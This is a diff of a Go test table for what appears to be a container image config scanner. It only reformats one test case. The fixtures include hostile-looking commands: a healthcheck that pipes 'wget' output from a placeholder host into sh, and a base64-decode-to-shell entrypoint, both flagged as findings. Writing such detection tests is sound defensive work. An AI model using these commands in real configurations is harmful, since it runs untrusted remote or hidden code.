@@ -72,8 +72,11 @@ func TestSettingsOfTheConfig(t *testing.T) {
 		"shells and interpreters":  {v1.Config{Env: []string{"BASH_ENV=/x", "NODE_OPTIONS=--require /x.js", "NODE_ENV=production"}}, "", []string{"low env-interpreter", "low env-shell"}},
 		"a command that decodes":   {v1.Config{Cmd: []string{"sh", "-c", "echo aGk= | base64 -d | sh"}}, "", []string{"medium entrypoint-encoded"}},
 		"a health check":           {v1.Config{Healthcheck: &v1.HealthConfig{Test: []string{"CMD", "curl", "-f", "http://localhost"}}}, "", []string{"info healthcheck"}},
-		"a health check that fetches": {v1.Config{Healthcheck: &v1.HealthConfig{Test: []string{"CMD-SHELL", "wget -qO- http://x.example | sh"}}}, "",
-			[]string{"medium healthcheck-pipe-to-shell"}},
+		"a health check that fetches": {
+			v1.Config{Healthcheck: &v1.HealthConfig{Test: []string{"CMD-SHELL", "wget -qO- http://x.example | sh"}}},
+			"",
+			[]string{"medium healthcheck-pipe-to-shell"},
+		},
 		"no health check":        {v1.Config{Healthcheck: &v1.HealthConfig{Test: []string{"NONE"}}}, "", nil},
 		"a trigger":              {v1.Config{OnBuild: []string{"RUN make"}}, "", []string{"low on-build"}},
 		"volumes":                {v1.Config{Volumes: map[string]struct{}{"/data": {}, "/usr/bin/": {}}}, "", []string{"low volume"}},
